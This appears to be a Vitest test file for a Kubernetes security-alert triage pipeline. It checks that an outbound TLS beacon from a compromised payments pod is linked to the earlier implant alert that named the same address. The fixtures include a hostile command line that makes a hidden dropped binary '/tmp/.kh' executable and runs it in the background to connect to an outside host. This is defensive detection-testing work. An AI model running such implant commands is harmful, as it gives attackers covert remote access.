/**
 * aks-oncall-audit: a binary dropped into a pod and started with a command line naming its home address; the NDR sees
 * the same pod talk to that address eighteen minutes later. Place and address together tie it to the attack for longer
 * than either alone.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alerts/model.js';
import { BatchCollector } from '../../src/triage/batch.js';
import { ATTACK_SIGNAL_RULES, correlateAlert, triageAlert } from '../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../support/cluster.js';

const N1 = 'aks-pool-vmss000002';
const gateway = pod('gateway-7c5d8f6b9-w8n3p', {
  namespace: 'payments',
  node: N1,
  ip: '10.244.4.31',
  owner: { kind: 'ReplicaSet', name: 'gateway-7c5d8f6b9' },
  containers: [{ name: 'gateway', image: 'acr.example/payments/gateway:2.9.1', command: ['/usr/local/bin/gateway'] }],
});
const other = pod('gateway-7c5d8f6b9-k4m2x', {
  namespace: 'payments',
  node: N1,
  ip: '10.244.4.32',
  owner: { kind: 'ReplicaSet', name: 'gateway-7c5d8f6b9' },
  containers: [{ name: 'gateway', image: 'acr.example/payments/gateway:2.9.1', command: ['/usr/local/bin/gateway'] }],
});
const index = indexOf([node(N1, '10.224.0.8'), owner('Deployment', 'gateway', 'payments'), owner('ReplicaSet', 'gateway-7c5d8f6b9', 'payments', { kind: 'Deployment', name: 'gateway' }), gateway, other]);
const at = (time: string) => `2027-03-14T${time}Z`;

const implant = alert({
  host: N1,
  time: at('03:47:01'),
  title: 'Drop and execute new binary in container',
  process: { name: '.kh', path: '/tmp/.kh', commandLine: '/tmp/.kh -connect 198.51.100.23:443' },
  ancestors: [{ name: 'sh', commandLine: 'sh -c chmod +x /tmp/.kh && nohup /tmp/.kh -connect 198.51.100.23:443 >/dev/null 2>&1 &' }],
  container: { id: containerIdOf(gateway) },
});
const beacon = (time: string, srcIp = '10.244.4.31', dstIp = '198.51.100.23') =>
  alert({ host: N1, time: at(time), title: 'LOCAL POLICY TLS to non-allowlisted external address (self-signed certificate)', network: { srcIp, srcPort: 45122, dstIp, dstPort: 443 } });

function run(alerts: Alert[]) {
  const collector = new BatchCollector(ATTACK_SIGNAL_RULES);
  for (const a of alerts) {
    const placed = correlateAlert(a, { index });
    if (placed) collector.add(a, placed.correlation, placed.index);
  }
  return alerts.map((a) => triageAlert(a, { index, batch: collector.stats }).verdict);
}

describe('a connection from the attacked pod to the address the attack named', () => {
  it('eighteen minutes later is still that attack', () => {
    const [drop, flow] = run([implant, beacon('04:05:33')]);
    expect(drop).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(flow.reasons[0].message).toMatch(/which named 198\.51\.100\.23, this connection's destination, this alert 18 min 32 s after it/);
  });
  it('trap: the same pod to another outside address, or another pod to that address, after the short window', () => {
    expect(run([implant, beacon('04:05:33', '10.244.4.31', '203.0.113.9')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    expect(run([implant, beacon('04:05:33', '10.244.4.32')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
  });
  it('trap: before the attack, or more than an hour after it', () => {
    expect(run([implant, beacon('03:30:00')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
    expect(run([implant, beacon('04:50:00')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
  });
});
